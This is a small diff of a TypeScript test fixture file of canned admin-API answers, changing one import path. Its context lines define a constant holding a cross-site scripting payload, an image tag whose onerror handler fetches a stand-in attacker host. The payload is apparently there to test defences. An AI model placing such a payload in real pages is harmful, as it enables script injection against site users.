@@ -1,7 +1,7 @@
 // answers.ts: answers of the admin API that a test cannot wait for or bring about.
 
 import type { Release } from "@inkling/engine";
-import { FEEDS } from "../../packages/compiler/src/feeds.ts";
+import { FEEDS } from "../../packages/compiler/src/catalog/feeds.ts";
 
 const HOSTILE = '<img src=x onerror="fetch(`https://evil.example/`)">';
 
